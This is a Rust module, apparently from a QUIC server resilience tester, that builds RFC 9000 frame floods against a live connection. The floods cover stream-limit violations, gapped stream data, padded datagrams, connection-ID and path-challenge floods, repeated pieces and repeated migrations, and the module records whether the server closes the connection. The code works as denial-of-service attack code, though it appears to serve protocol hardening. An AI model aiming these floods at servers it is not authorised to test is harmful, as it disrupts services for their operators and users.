//! Frames of RFC 9000 section 19 on a connection that has shaken hands.

use std::io;
use std::time::Instant;

use super::QuicAttack;
use super::client::QuicClient;
use super::packet::varint;
use crate::attack::{Outcome, now};
use crate::client::Target;

/// Packets of a flood, and how many are sent before the server is listened to.
const PACKETS: u32 = 2000;
const AT_ONCE: u32 = 50;
const MIGRATIONS: usize = 100;
/// What a packet is filled up to where its size matters; a datagram is 1200 bytes and some.
const FULL_BYTES: usize = 1150;

pub(super) fn run(attack: QuicAttack, target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = QuicClient::connect(target)?;
    // As much as may be on its way in earnest, and more.
    let packets = if attack == QuicAttack::RepeatedPieces { 4 * PACKETS } else { PACKETS };
    for number in 0..packets {
        if client.closed || now() > until {
            break;
        }
        client.send_frames(&piece(attack, number.into()));
        if number % AT_ONCE == AT_ONCE - 1 {
            client.receive();
        }
    }
    while is_cut(attack) && !client.closed && now() < until {
        // Only what it began with tells whether that is borne.
        let goes_on = attack == QuicAttack::RepeatedPieces;
        client.send_frames(&if goes_on { piece(attack, 0) } else { vec![1] });
        client.receive();
    }
    Ok(Outcome { requests: 0, ended: client.closed || !is_cut(attack) })
}

/// Whether the server is to close: the rules are broken (RFC 9000 section 11), or there is work for nothing. Of pieces with
/// gaps it may also take no more.
fn is_cut(attack: QuicAttack) -> bool {
    let is_borne =
        matches!(attack, QuicAttack::RetiredIds | QuicAttack::StreamGaps | QuicAttack::PinnedDatagrams);
    !is_borne
}

#[expect(clippy::wildcard_enum_match_arm, reason = "about some of the attacks")]
fn piece(attack: QuicAttack, number: u64) -> Vec<u8> {
    match attack {
        // The client's bidirectional streams are numbered in fours.
        QuicAttack::StreamLimit => [vec![0x0a], varint(4 * (1000 + number)), vec![1, 0]].concat(),
        QuicAttack::StreamGaps => {
            let stream = varint(4 * (number % 100));
            let first = 200 * (number / 100);
            let gap = |at: u64| [&[0x0e][..], &stream, &varint(first + 2 * at), &[1, 0x21]].concat();
            (1..100).flat_map(gap).collect()
        }
        QuicAttack::PinnedDatagrams => {
            let at = varint(2 + 2 * (number / 100));
            let mut frames = [&[0x0e][..], &varint(4 * (number % 100)), &at, &[1, 0x21]].concat();
            frames.resize(FULL_BYTES, 0);
            frames
        }
        QuicAttack::ConnectionIds => new_id(number + 1, 0),
        QuicAttack::RetiredIds => new_id(number + 1, number + 1),
        QuicAttack::PathChallenges => [&[0x1a][..], &number.to_be_bytes()].concat().repeat(100),
        QuicAttack::RepeatedPieces => {
            let again = [&[0x0e, 0][..], &varint(2), &varint(512), &[0x21; 512]].concat();
            [again.repeat(2), vec![1; 6]].concat()
        }
        _ => vec![1; 1000],
    }
}

/// NEW_CONNECTION_ID, with the ids below `retired` given up.
fn new_id(number: u64, retired: u64) -> Vec<u8> {
    let id = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes();
    [&[0x18][..], &varint(number), &varint(retired), &[8], &id, &[7; 16]].concat()
}

pub(super) fn migrations(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = QuicClient::connect(target)?;
    for _ in 0..MIGRATIONS {
        if client.closed || now() > until {
            break;
        }
        client.migrate()?;
        for _ in 0..10 {
            client.send_frames(&[1]);
        }
    }
    client.receive();
    // Cut or borne: both are sound.
    Ok(Outcome { requests: 0, ended: true })
}
